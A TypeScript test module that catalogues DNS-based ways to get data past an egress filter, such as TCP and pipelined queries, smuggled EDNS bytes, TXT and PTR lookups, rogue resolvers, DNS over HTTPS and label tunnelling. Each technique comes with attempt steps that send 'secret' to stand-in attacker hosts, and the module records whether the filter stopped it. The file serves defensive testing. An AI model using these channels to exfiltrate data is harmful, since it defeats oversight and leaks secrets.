/** Lookups as a way out: transports, servers and messages that a filter may not look into. */
import type { Technique } from '../technique.ts';
import { edns, message, query, question, stream } from './messages.ts';
import { DNS, GOOD, nodata, OTHER, refusedName } from './names.ts';

const LOCAL = '127.0.0.53';
const denied = (n: number): string => `d${n}.evil.test`;
const evil = (n: number): string => `198.51.100.${n}`;

export const lookups: readonly Technique[] = [
  {
    id: 'dns-over-tcp',
    title: 'DNS over TCP',
    how: 'A filter that reads queries on UDP port 53 does not see those in a TCP stream.',
    source: 'CVE-2026-32946, CVE-2025-47775',
    outcome: 'stopped',
    by: 'Port 53 of both protocols leads to the resolver, which judges each query.',
    attempts: [
      {
        what: 'a denied name over TCP',
        step: `dns-tcp ${DNS} 53 ${stream(message(question(denied(1))))}`,
        witness: { asked: denied(1) },
        record: refusedName(denied(1)),
      },
      {
        what: 'its address after that',
        step: `tcp ${evil(1)} 8000 secret`,
        witness: { packets: evil(1) },
        record: { row: { reason: 'default', ip: evil(1), port: 8000, domain: null } },
      },
    ],
  },
  {
    id: 'dns-pipelined',
    title: 'Several DNS messages in one segment',
    how: 'An allowed query stands in front, and only the first message of a segment is parsed.',
    source: 'devansh write-up on Bullfrog, 2026; its agent v0.11 (dnspipeline)',
    outcome: 'stopped',
    by: 'The resolver ends the TCP connection itself and judges every message by its length.',
    attempts: [
      {
        what: 'an allowed name, then a denied one',
        step: `dns-tcp ${DNS} 53 ${stream(message(question(GOOD)), message(question(denied(2))))}`,
        witness: { asked: denied(2) },
        record: refusedName(denied(2)),
      },
      {
        what: 'its address after that',
        step: `tcp ${evil(2)} 8000 secret`,
        witness: { packets: evil(2) },
        record: { row: { reason: 'default', ip: evil(2), domain: null } },
      },
    ],
  },
  {
    id: 'dns-many-questions',
    title: 'Several questions in one message',
    how: 'The first question is allowed and judged, the second is answered too.',
    source: 'Egret (refuses QDCOUNT other than 1)',
    outcome: 'stopped',
    by: 'A message with other than one question, or with anything behind it, is refused whole.',
    attempts: [
      {
        what: 'two questions by UDP',
        step: `dns-udp ${DNS} 53 ${message(question('m3.wild.example.test'), question(denied(3))).toString('hex')}`,
        witness: { bytes: '\x02d3\x04evil' },
        record: { row: { reason: 'query', domain: 'm3.wild.example.test' } },
      },
      {
        what: 'two questions by TCP',
        step: `dns-tcp ${DNS} 53 ${stream(message(question('m4.wild.example.test'), question(denied(4))))}`,
        witness: { bytes: '\x02d4\x04evil' },
        record: { row: { reason: 'query', domain: 'm4.wild.example.test' } },
      },
      {
        what: 'a second message behind the first in one datagram',
        step: `dns-udp ${DNS} 53 ${query('m5.wild.example.test')}${query(denied(5))}`,
        witness: { bytes: '\x02d5\x04evil' },
        record: { row: { reason: 'query', domain: 'm5.wild.example.test' } },
      },
    ],
  },
  {
    id: 'dns-smuggled-bytes',
    title: 'Data beside an allowed question',
    how: 'The name is allowed, and options, the case of its letters, class or id carry the data to its server.',
    source: 'RFC 6891 (options); draft-vixie-dnsext-dns0x20',
    outcome: 'stopped',
    by: 'The upstream query is built anew: lower-case name, type A, nothing of the client’s.',
    attempts: [
      {
        what: 'an EDNS option',
        step: `dns-udp ${DNS} 53 ${edns(question('e1.wild.example.test'), 'secret-option')}`,
        witness: { bytes: 'secret-option' },
        record: { answered: /^7171818/ },
      },
      {
        what: 'bits in the case of letters',
        step: `dns-udp ${DNS} 53 ${query('E2SeCrEt.wild.example.test')}`,
        witness: { bytes: 'E2SeCrEt' },
        record: { answered: /^7171818/ },
      },
      {
        what: 'another class',
        step: `dns-udp ${DNS} 53 ${message(question('e3.wild.example.test', 'A', 3)).toString('hex')}`,
        witness: { bytes: '\x02e3\x04wild' },
        record: { row: { reason: 'query', domain: 'e3.wild.example.test' } },
      },
    ],
  },
  {
    id: 'dns-query-types',
    title: 'TXT, PTR and other types',
    how: 'Only A and AAAA are judged; TXT carries data both ways, PTR is always let pass.',
    source: 'an npm package of 2026 (TXT); CargoWall design (in-addr.arpa)',
    outcome: 'stopped',
    by: 'A name is judged whatever the type; of an allowed name, only type A is asked of anyone.',
    attempts: [
      ...(['TXT', 'HTTPS', 'ANY'] as const).map((type, at) => ({
        what: `${type} of a denied name`,
        step: `dns-udp ${DNS} 53 ${query(denied(6 + at), type)}`,
        witness: { asked: denied(6 + at) },
        record: refusedName(denied(6 + at)),
      })),
      {
        what: 'TXT below an allowed wildcard',
        step: `dns-udp ${DNS} 53 ${query('t1.wild.example.test', 'TXT')}`,
        witness: { asked: 't1.wild.example.test' },
        record: { answered: nodata },
      },
      {
        what: 'PTR of an address of the attacker’s',
        step: `dns-udp ${DNS} 53 ${query('7.100.51.198.in-addr.arpa', 'PTR')}`,
        witness: { asked: '7.100.51.198.in-addr.arpa' },
        record: refusedName('7.100.51.198.in-addr.arpa'),
      },
    ],
  },
  {
    id: 'dns-other-server',
    title: 'A DNS server of the attacker’s',
    how: 'The query goes to another server than the host’s, which answers it or reads what is in it.',
    source: 'mcdonc/klangk #2264 (direct upstream)',
    outcome: 'stopped',
    by: 'Port 53 of any address leads to the resolver: the other server gets no packet.',
    attempts: [
      {
        what: 'over UDP',
        step: `dns-udp ${OTHER} 53 ${query(denied(10))}`,
        witness: { packets: OTHER, port: 53, protocol: 'udp' },
        record: refusedName(denied(10)),
      },
      {
        what: 'over TCP',
        step: `dns-tcp ${OTHER} 53 ${stream(message(question(denied(11))))}`,
        witness: { packets: OTHER, port: 53, protocol: 'tcp' },
        record: refusedName(denied(11)),
      },
      {
        what: 'dig, with a server of its own choice',
        step: `run dig +short +time=1 +tries=1 @${OTHER} ${denied(12)}`,
        witness: { asked: denied(12) },
        record: { row: { reason: 'default', domain: denied(12), comm: undefined } },
      },
    ],
  },
  {
    id: 'local-resolver',
    title: 'The host’s own resolver on loopback',
    how: 'Loopback is open, and systemd-resolved or dnsmasq there asks for any name.',
    source: 'systemd-resolved.service(8), 127.0.0.53',
    outcome: 'stopped',
    by: 'Port 53 of loopback leads to the target’s resolver as well.',
    attempts: [
      {
        what: 'a denied name',
        step: `dns-udp ${LOCAL} 53 ${query(denied(13))}`,
        witness: { text: '\x03d13' },
        record: refusedName(denied(13)),
      },
    ],
  },
  {
    id: 'doh-name',
    title: 'DNS over HTTPS by name',
    how: 'A public resolver answers over HTTPS, where no filter of port 53 sees it.',
    source: 'CVE-2026-32947',
    outcome: 'stopped',
    by: 'Names of public resolvers are a list that stands before every rule, also at the end of an alias.',
    attempts: [
      {
        what: 'the look-up',
        step: `dns-udp ${DNS} 53 ${query('dns.google')}`,
        witness: { asked: 'dns.google' },
        record: { row: { reason: 'doh', domain: 'dns.google' } },
      },
    ],
  },
  {
    id: 'doh-allowed-host',
    title: 'DNS over HTTPS at an allowed host',
    how: 'A host that a rule allows answers DNS queries over HTTPS, or passes on what it is sent.',
    source: 'RFC 8484',
    outcome: 'limit',
    by: 'HTTP is not looked into. The addresses that such an answer names stay closed.',
    limit: 'Data sent to an allowed destination.',
    attempts: [
      {
        what: 'the look-up of the allowed name',
        step: `dns-udp ${DNS} 53 ${query(GOOD)}`,
        held: /^7171818/,
      },
      {
        what: 'a query in the path of a request',
        step: `http 192.0.2.20 8000 ${GOOD} /dns-query?dns=secret-in-path`,
        witness: { text: 'dns=secret-in-path' },
        through: true,
      },
    ],
  },
  {
    id: 'dns-tunnel',
    title: 'Data in labels below an allowed wildcard',
    how: 'Someone else answers for names below an allowed wildcard, and reads what stands in their labels.',
    source: 'openai/fence (caps names); Egret ROADMAP',
    outcome: 'limit',
    by: 'Which names exist below a wildcard is not known. A run may look up 4,096 names; exact names have no such channel.',
    limit: 'Data in labels below an allowed wildcard.',
    attempts: [
      {
        what: 'a label with data',
        step: `dns-udp ${DNS} 53 ${query('mfzwizltoqzq.wild.example.test')}`,
        witness: { asked: 'mfzwizltoqzq.wild.example.test' },
        through: true,
      },
    ],
  },
];
